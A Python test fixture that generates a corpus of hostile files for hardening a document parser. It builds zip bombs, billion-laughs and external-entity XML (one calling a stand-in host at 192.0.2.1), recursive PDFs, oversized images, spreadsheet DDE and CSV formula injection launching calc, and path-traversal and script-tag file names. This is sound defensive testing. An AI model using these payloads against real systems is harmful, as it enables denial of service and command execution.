"""Files that are built to do harm, each made when it is asked for: name → what it is called and its bytes."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable

from tests.badfiles import (
    BOMB,
    EXTERNAL,
    WORDS,
    W,
    loop,
    package,
    pages,
    with_declared_size,
    with_document,
    with_objects,
    with_part,
)

Bomb = tuple[str, bytes]
MILLION = 1_000_000
_LAUGHS = b"".join(b"<!ENTITY l%d '%s'>" % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 12))
LAUGHS = b"<?xml version='1.0'?><!DOCTYPE d [<!ENTITY l0 'ha'>" + _LAUGHS + b"]><d>&l11;</d>"
"""A billion laughs."""
PARAMETER = b"<?xml version='1.0'?><!DOCTYPE d [<!ENTITY % p SYSTEM 'http://192.0.2.1/x.dtd'> %p;]><d>&q;</d>"
SDMX = b"<m:StructureSpecificData xmlns:m='http://www.sdmx.org/resources/sdmxml/schemas/v2_1/message'>"
_ROWS = "xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'"


# ---------------------------------------------------------------- archives


def nested() -> bytes:
    """Archives within archives: the innermost is 100 MB of nothing."""
    inner = package({"a": bytes(100 * MILLION)})
    for level in range(4):
        inner = package({f"{level}-{copy}.zip": inner for copy in range(8)})
    return package({"word/document.xml": inner})


def overlapping() -> bytes:
    """A thousand entries of which each is the same compressed megabyte."""
    data = package({"word/document.xml": bytes(MILLION)})
    place = data.index(b"PK\x01\x02")
    end = data.index(b"PK\x05\x06")
    entry = data[place:end]
    entries = entry + b"".join(entry.replace(b"word/document.xml", b"word/docum%03d.xml" % n) for n in range(999))
    tail = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1000, 1000, len(entries), place, 0)
    return data[:place] + entries + tail


def lying() -> bytes:
    """An archive whose main part unpacks to 200 MB, and says it has ten bytes."""
    return with_declared_size(package({"word/document.xml": bytes(200 * MILLION)}), 10)


def many_parts() -> bytes:
    return package({"word/document.xml": b"<x/>"} | {f"x/{n}": b"" for n in range(30_000)})


# ---------------------------------------------------------------- PDF

_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"


def _page_with(stream: bytes, *filters: bytes, extra: tuple[bytes, ...] = ()) -> bytes:
    """A PDF whose one page has this content, packed by these filters."""
    told = b"/Filter [%s]" % b" ".join(b"/" + name for name in filters) if filters else b""
    parts = (b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", _PAGE)
    return with_objects((*parts, b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(stream), told, stream), *extra))


def flate(times: int) -> bytes:
    """A page of half a gigabyte of operators, packed again and again."""
    packer = zlib.compressobj(9)
    stream = b"".join(packer.compress(b"q Q " * 250_000) for _ in range(512)) + packer.flush()
    for _ in range(times - 1):
        stream = zlib.compress(stream, 9)
    return _page_with(stream, *[b"FlateDecode"] * times)


def forms() -> bytes:
    """Forms that draw ten of the next one each, twelve deep."""
    parts = []
    for level in range(12):
        drawn = b"/F Do " * 10 if level < 11 else b"0 0 1 1 re f"
        uses = b"/Resources << /XObject << /F %d 0 R >> >>" % (6 + level) if level < 11 else b""
        parts.append(
            b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] %s /Length %d >>\nstream\n%s\nendstream"
            % (uses, len(drawn), drawn)
        )
    head = (b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    page = _PAGE[:-2] + b"/Resources << /XObject << /F 5 0 R >> >> >>"
    return with_objects((*head, page, b"<< /Length 5 >>\nstream\n/F Do\nendstream", *parts))


def table_loop() -> bytes:
    """A table of places that says that the one before it is itself."""
    data = pages("3 0 R", 1)
    return data.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % data.rindex(b"xref\n0"))


def self_reference() -> bytes:
    """A page whose content is the page itself, in an object that refers to itself."""
    return with_objects((b"<< /Type /Catalog /Pages 2 0 R >>", b"2 0 R", b"3 0 R"))


# ---------------------------------------------------------------- pictures


def png(wide: int = 60_000, high: int = 60_000) -> bytes:
    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = struct.pack(">IIBBBBB", wide, high, 8, 2, 0, 0, 0)
    rows = chunk(b"IDAT", zlib.compress(bytes(10 * MILLION)))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + rows + chunk(b"IEND", b"")


def jpeg() -> bytes:
    frame = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, 60_000, 60_000, 1) + b"\x01\x11\x00"
    return b"\xff\xd8" + frame + b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00" + bytes(999) + b"\xff\xd9"


def tiff() -> bytes:
    tags = ((256, 60_000), (257, 60_000), (258, 8), (259, 1), (262, 1), (273, 200), (277, 1), (278, 60_000), (279, 99))
    rows = b"".join(struct.pack("<HHII", tag, 4, 1, value) for tag, value in tags)
    return b"II*\0" + struct.pack("<IH", 8, len(tags)) + rows + bytes(4) + bytes(300)


# ---------------------------------------------------------------- sheets


def rows(xml: str) -> bytes:
    return with_part("xl/worksheets/sheet1.xml", f"<worksheet {_ROWS}>{xml}</worksheet>".encode())


def cell(place: str, words: str = "粮食产量12万吨", inner: str = "") -> str:
    return f'<c r="{place}" t="inlineStr">{inner}<is><t>{words}</t></is></c>'


SPARSE = "".join(f'<row r="{n * 10_000 + 1}">{cell(f"XFD{n * 10_000 + 1}")}</row>' for n in range(100))
FORMULA = (
    '<row r="1"><c r="A1" t="str"><f>cmd|\'/C calc\'!A0</f><v>12万吨</v></c>'
    '<c r="B1" t="str"><f>WEBSERVICE("http://192.0.2.1/")</f><v>3%</v></c>'
    '<c r="C1"><f>[1]外!A1</f><v>5</v></c></row>'
)
LINK = b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>'  # noqa: E501


# ---------------------------------------------------------------- the corpus

QUICK: dict[str, Callable[[], Bomb]] = {
    "archives that overlap": lambda: ("a.docx", overlapping()),
    "an archive of thirty thousand parts": lambda: ("a.docx", many_parts()),
    "a billion laughs in DOCX": lambda: ("a.docx", with_document(LAUGHS)),
    "a billion laughs in XLSX": lambda: ("a.xlsx", with_part("xl/worksheets/sheet1.xml", LAUGHS)),
    "a billion laughs in SDMX": lambda: ("a.xml", LAUGHS.replace(b"<d>", SDMX)),
    "a billion laughs in HTML": lambda: ("a.html", LAUGHS + WORDS.encode()),
    "a billion laughs in SVG": lambda: ("a.svg", LAUGHS.replace(b"<d>", b"<svg>")),
    "an external entity in SDMX": lambda: ("a.xml", EXTERNAL.replace(b"<d>", SDMX)),
    "an external entity in HTML": lambda: ("a.html", EXTERNAL + WORDS.encode()),
    "a parameter entity in DOCX": lambda: ("a.docx", with_document(PARAMETER)),
    "a parameter entity in XLSX": lambda: ("a.xlsx", with_part("xl/styles.xml", PARAMETER)),
    "entities behind a long comment": lambda: ("a.docx", with_document(b"<!--" + b"x" * 9000 + b"-->" + BOMB[21:])),
    "pages of PDF in a loop": lambda: ("a.pdf", loop()),
    "a table of PDF that leads to itself": lambda: ("a.pdf", table_loop()),
    "an object of PDF that is itself": lambda: ("a.pdf", self_reference()),
    "brackets of PDF, deep": lambda: ("a.pdf", _page_with(b"[" * MILLION)),
    "dictionaries of PDF, deep": lambda: ("a.pdf", _page_with(b"q Q", extra=(b"<< /A " * 200_000,))),
    "a PNG of 60000 × 60000": lambda: ("a.png", png()),
    "a JPEG of 60000 × 60000": lambda: ("a.jpg", jpeg()),
    "a TIFF of 60000 × 60000": lambda: ("a.tif", tiff()),
    "XML of DOCX, deep": lambda: ("a.docx", with_document(f"<w:document {W}><w:body>{'<w:p>' * 200_000}".encode())),
    "XML of XLSX, deep": lambda: ("a.xlsx", rows("<row>" * 200_000)),
    "tables within tables": lambda: ("a.html", ("<table><tr><td>" * 30_000 + WORDS).encode()),
    "brackets of text, deep": lambda: ("a.txt", ("（" * 300_000 + WORDS).encode()),
    "a sheet that says it has 10^10 cells": lambda: ("a.xlsx", rows(f'<dimension ref="A1:XFD1048576"/><sheetData><row r="1">{cell("A1")}</row></sheetData>')),  # noqa: E501
    "a sheet with cells far apart": lambda: ("a.xlsx", rows(f"<sheetData>{SPARSE}</sheetData>")),
    "a sheet with cells that nobody can name": lambda: ("a.xlsx", rows(f'<sheetData><row r="99999999999">{cell("ZZZZZZ99999999999")}</row></sheetData>')),  # noqa: E501
    "a sheet of one merged cell": lambda: ("a.xlsx", rows(f'<sheetData><row r="1">{cell("A1")}</row></sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>')),  # noqa: E501
    "formulas, DDE and links": lambda: ("a.xlsx", rows(f"<sheetData>{FORMULA}</sheetData>")),
    "a link to another workbook": lambda: ("a.xlsx", with_part("xl/externalLinks/externalLink1.xml", LINK)),
    "cells of a page that span 10^9": lambda: ("a.html", f"<table><tr><td rowspan=1000000000 colspan=1000000000>{WORDS}<td>2<tr><td>3</table>".encode()),  # noqa: E501
    "many cells that span 10^9": lambda: ("a.html", ("<table>" + "<tr><td rowspan=1000000000 colspan=1000000000>1万吨" * 3000).encode()),  # noqa: E501
    "formulas in a table of text": lambda: ("a.csv", "指标,值\n=cmd|'/C calc'!A0,12万吨\n@SUM(1),-3\n".encode()),
    "a mark of UTF-16 before UTF-8": lambda: ("a.txt", b"\xff\xfe" + (WORDS * 9).encode()),
    "a mark of UTF-8 before GB18030": lambda: ("a.txt", b"\xef\xbb\xbf" + (WORDS * 9).encode("gb18030")),
    "GB18030 cut in a character": lambda: ("a.txt", (WORDS * 9).encode("gb18030")[:-2] + b"\xc1"),
    "UTF-7": lambda: ("a.html", b"<meta charset=utf-7>+ADw-script+AD4-" + WORDS.encode("utf-7")),
    "UTF-8 and GB18030 in turns": lambda: ("a.txt", WORDS.encode() * 9 + WORDS.encode("gb18030") * 9),
    "zeros among the characters": lambda: ("a.txt", (WORDS * 9).encode().replace("年".encode(), b"\0")),
    "a page that lies about its encoding": lambda: ("a.html", b"<meta charset=utf-16>" + WORDS.encode("gb18030")),
    "an encoding that is none": lambda: ("a.html", b"<meta charset=rot13>" + WORDS.encode()),
    "a cell of a million signs": lambda: ("a.csv", b"a,b\n" + b"x" * MILLION + b",3\n"),
    "a quotation that never ends": lambda: ("a.csv", b'a,"b\n' + b"x,y\n" * 200_000),
    "marks of direction": lambda: ("a.txt", ("\u202e" * 9999 + WORDS + "\u2066" * 9999).encode()),
}  # fmt: skip

SLOW: dict[str, Callable[[], Bomb]] = {
    "one line of a million signs": lambda: ("a.txt", ("水利投资38.6亿元、" * 50_000)[: 500_000].encode()),
    "archives in archives": lambda: ("a.docx", nested()),
    "an archive that lies about a size": lambda: ("a.docx", lying()),
    "streams of PDF that unpack to half a gigabyte": lambda: ("a.pdf", flate(1)),
    "streams of PDF packed thrice": lambda: ("a.pdf", flate(3)),
    "forms of PDF that draw 10^11 others": lambda: ("a.pdf", forms()),
    "a million elements, deep": lambda: ("a.html", ("<div>" * MILLION + WORDS).encode()),
}  # fmt: skip

NAMES = {
    "up and away": "../../../../etc/报告.txt",
    "from the root": "/etc/报告.txt",
    "of Windows": "..\\..\\C:\\报告.txt",
    "a zero": "报\0告.txt",
    "very long": "报" * 3000 + ".txt",
    "control signs": "报\x1b[31m\r\n告\x07.txt",
    "right to left": "报\u202etxt.exe\u2066.txt",
    "nothing but dots": "..",
    "markup": "<script>alert(1)</script>.txt",
    "a formula": "=cmd|' ⁄C calc'!A0.txt",
    "halves of a pair": "报\udc80告.txt",
}


if __name__ == "__main__":
    for title, make in (QUICK | SLOW).items():
        called, data = make()
        print(f"{len(data):>12,}  {called:8} {title}")
